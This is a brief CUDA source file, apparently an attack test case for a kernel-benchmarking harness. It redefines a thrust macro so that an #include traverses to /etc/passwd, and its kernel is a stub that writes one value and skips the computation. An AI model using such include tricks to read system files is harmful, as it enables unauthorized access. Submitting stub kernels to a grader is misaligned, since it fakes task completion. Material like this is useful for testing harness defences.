// Attack: the same through THRUST_DEVICE_SYSTEM and the device-system tag
// header (#include __THRUST_DEVICE_SYSTEM_TAG_HEADER), plus push_macro to
// put back a ROOT that thrust's config redefined.
// clang-format off
#include <thrust/detail/config.h>
#pragma push_macro("__THRUST_DEVICE_SYSTEM_ROOT")
#undef __THRUST_DEVICE_SYSTEM_ROOT
#define __THRUST_DEVICE_SYSTEM_ROOT cuda/../../../../../../../../../../../etc/passwd>
#include <thrust/iterator/detail/device_system_tag.h>
#pragma pop_macro("__THRUST_DEVICE_SYSTEM_ROOT")
// @kb launch gather_linear grid(B) block(32)
extern "C" __global__ void gather_linear(const float* x, const float* w,
                                         const float* bias, float* out,
                                         int R, int B, int H, int K) { out[0] = 1; }
